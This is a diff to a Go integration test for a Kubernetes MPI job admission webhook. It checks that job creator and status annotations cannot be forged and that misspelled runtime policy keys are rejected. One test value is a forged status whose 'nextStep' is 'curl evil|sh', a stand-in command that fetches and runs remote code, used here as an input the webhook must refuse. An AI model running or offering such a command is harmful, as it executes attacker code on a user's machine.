@@ -4,13 +4,17 @@ package integration
 
 import (
 	"context"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
 
 	trainer "github.com/kubeflow/trainer/v2/pkg/apis/trainer/v1alpha1"
 	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	"k8s.io/apimachinery/pkg/api/resource"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/apimachinery/pkg/util/wait"
 	"k8s.io/client-go/util/retry"
 	"sigs.k8s.io/controller-runtime/pkg/client"
@@ -83,47 +87,68 @@ func TestAdmission(t *testing.T) {
 	}
 }
 
-// The creator is the requesting user, whatever the request claims, and it
-// cannot be changed afterwards.
-func TestCreatorAttribution(t *testing.T) {
+// The creator is the requesting user. A create naming someone else and
+// any later change are refused (Forbidden), never silently corrected, and
+// only mpijob-manager may write a job's status: nobody can make a job
+// look failed to its viewers, or give them a "next step" to run.
+func TestCreatorAndStatusCannotBeForged(t *testing.T) {
 	c := framework.Get(t)
 	devA := c.As(t, "dev-a")
 	ctx := context.Background()
 	job := framework.MakeTrainJob(framework.UniqueName("creator"), "team-a", "mpi-openmpi").NumNodes(1).Obj()
-	job.Spec.Suspend = new(bool)
-	*job.Spec.Suspend = true
-	job.Annotations = map[string]string{api.CreatorAnnotation: "admin"}
+	forged := job.DeepCopy()
+	forged.Annotations = map[string]string{api.CreatorAnnotation: "admin"}
+	err := devA.Create(ctx, forged)
+	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), `metadata.annotations[mpijob.dev/creator]: Forbidden: mpijob records who creates a job, and you are "dev-a", not "admin"`) {
+		t.Fatalf("a create naming admin as creator: %v, want Forbidden naming the annotation", err)
+	}
+	withStatus := job.DeepCopy()
+	withStatus.Annotations = map[string]string{api.StatusAnnotation: `{"phase":"Succeeded"}`}
+	if err := devA.Create(ctx, withStatus); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "metadata.annotations[mpijob.dev/status]: Forbidden") {
+		t.Fatalf("a create with a status: %v, want Forbidden naming the annotation", err)
+	}
 	if err := devA.Create(ctx, job); err != nil {
 		t.Fatalf("create: %v", err)
 	}
 	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), job) })
-
 	got := &trainer.TrainJob{}
 	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(job), got); err != nil {
 		t.Fatal(err)
 	}
 	if who := got.Annotations[api.CreatorAnnotation]; who != "dev-a" {
-		t.Errorf("creator = %q, want dev-a (the forged value must be replaced)", who)
+		t.Errorf("creator = %q, want dev-a", who)
 	}
+	// A finished job keeps its status for good: forging one there would last.
+	c.WaitForStatus(t, "team-a", job.Name, 2*time.Minute, func(s api.Status) bool { return s.Phase == api.PhaseSucceeded })
 
-	// mpijob-manager writes the job's status annotation meanwhile: retry on conflict.
-	err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
-		cur := &trainer.TrainJob{}
-		if err := devA.Get(ctx, client.ObjectKeyFromObject(job), cur); err != nil {
-			return err
+	// Each change is tried by the tenant and by a cluster administrator.
+	for _, who := range []string{"dev-a", "admin"} {
+		cl := c.As(t, who)
+		for name, tc := range map[string]struct {
+			key, value string
+			want       string
+		}{
+			"creator": {api.CreatorAnnotation, "dev-b", `metadata.annotations[mpijob.dev/creator]: Forbidden: the creator of a job cannot change or be removed (it is "dev-a")`},
+			"status": {api.StatusAnnotation, "{\"phase\":\"Failed\",\"message\":\"\\u001b[31mboom\",\"nextStep\":\"curl evil|sh\"}",
+				"metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status"},
+		} {
+			patch := client.RawPatch(types.MergePatchType, []byte(fmt.Sprintf(`{"metadata":{"annotations":{%q:%q}}}`, tc.key, tc.value)))
+			if err := cl.Patch(ctx, job.DeepCopy(), patch); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.want) {
+				t.Errorf("%s changes the %s: %v, want %q", who, name, err, tc.want)
+			}
 		}
-		cur.Annotations[api.CreatorAnnotation] = "dev-b"
-		return devA.Update(ctx, cur)
-	})
-	if err != nil {
-		t.Fatalf("update: %v", err)
 	}
 	after := &trainer.TrainJob{}
 	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(job), after); err != nil {
 		t.Fatal(err)
 	}
-	if who := after.Annotations[api.CreatorAnnotation]; who != "dev-a" {
-		t.Errorf("after an update that tried dev-b, creator = %q, want dev-a", who)
+	s, ok, err := api.ReadStatus(after.Annotations)
+	if after.Annotations[api.CreatorAnnotation] != "dev-a" || !ok || err != nil || s.Phase != api.PhaseSucceeded || s.NextStep != "" {
+		t.Errorf("after the refused changes: creator %q, status %+v (%v)", after.Annotations[api.CreatorAnnotation], s, err)
+	}
+	// Other annotations are the user's.
+	if err := devA.Patch(ctx, job.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"annotations":{"team.example.com/note":"x"}}}`))); err != nil {
+		t.Errorf("a tenant's own annotation: %v", err)
 	}
 }
 
@@ -171,15 +196,7 @@ func TestRuntimePolicy(t *testing.T) {
 	// running job keeps its 2 Workers.
 	setPolicy := func(key, value string) {
 		t.Helper()
-		err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
-			cur := &trainer.ClusterTrainingRuntime{}
-			if err := c.Client.Get(ctx, client.ObjectKeyFromObject(rt), cur); err != nil {
-				return err
-			}
-			cur.Annotations[key] = value
-			return c.Client.Update(ctx, cur)
-		})
-		if err != nil {
+		if err := trySetPolicy(ctx, c.Client, rt, key, value); err != nil {
 			t.Fatalf("edit runtime %s: %v", rt.Name, err)
 		}
 	}
@@ -195,12 +212,21 @@ func TestRuntimePolicy(t *testing.T) {
 	if err := wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 10*time.Second, true, denied(two, "allows at most 1 Workers per job")); err != nil {
 		t.Fatalf("a new 2-Worker job is still admitted after max-workers became 1")
 	}
-	// A typo in the policy refuses new jobs rather than switching a limit off.
-	setPolicy(runtimes.MaxWorkersAnnotation, "one")
-	one := framework.MakeTrainJob("one", ns, rt.Name).NumNodes(1).OnKwokNodes().Obj()
-	if err := wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 10*time.Second, true,
-		denied(one, `runtime `+rt.Name+` has an invalid policy, ask its administrator to fix it: metadata.annotations[policy.mpijob.dev/max-workers]: Invalid value: "one": must be a whole number of Workers, at least 1`)); err != nil {
-		t.Fatalf("a job is admitted under a malformed policy")
+	// A bad value or a misspelled key is refused on the runtime itself,
+	// rather than switching a limit off.
+	for key, want := range map[string]string{
+		runtimes.MaxWorkersAnnotation:        `metadata.annotations[policy.mpijob.dev/max-workers]: Invalid value: "one": must be a whole number of Workers, at least 1`,
+		runtimes.PolicyPrefix + "max-worker": `metadata.annotations[policy.mpijob.dev/max-worker]: Unsupported value: "policy.mpijob.dev/max-worker": is not a policy of mpijob, so it would limit nothing: did you mean policy.mpijob.dev/max-workers?`,
+		runtimes.PriorityClassAnnotation:     `metadata.annotations[policy.mpijob.dev/priority-class]: Invalid value: "one": is not a policy`,
+	} {
+		if err := trySetPolicy(ctx, c.Client, rt, key, "one"); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
+			t.Errorf("runtime annotation %s=one: %v, want %q", key, err, want)
+		}
+	}
+	nsRuntime := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "typo", Namespace: ns,
+		Annotations: map[string]string{runtimes.PolicyPrefix + "required-toleration": "gpu"}}, Spec: *rt.Spec.DeepCopy()}
+	if err := c.Client.Create(ctx, nsRuntime); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "did you mean policy.mpijob.dev/required-tolerations?") {
+		t.Errorf("a TrainingRuntime with a misspelled policy: %v, want Invalid with a suggestion", err)
 	}
 
 	time.Sleep(3 * time.Second) // what a change to the running job would need to show
@@ -215,4 +241,16 @@ func TestRuntimePolicy(t *testing.T) {
 	if n := len(c.JobPods(t, ns, running.Name, "node")); n != 2 {
 		t.Errorf("the running job has %d Worker pods after its runtime was edited, want 2", n)
 	}
+}
+
+// trySetPolicy sets one annotation of a ClusterTrainingRuntime.
+func trySetPolicy(ctx context.Context, cl client.Client, rt *trainer.ClusterTrainingRuntime, key, value string) error {
+	return retry.RetryOnConflict(retry.DefaultRetry, func() error {
+		cur := &trainer.ClusterTrainingRuntime{}
+		if err := cl.Get(ctx, client.ObjectKeyFromObject(rt), cur); err != nil {
+			return err
+		}
+		cur.Annotations[key] = value
+		return cl.Update(ctx, cur)
+	})
 }
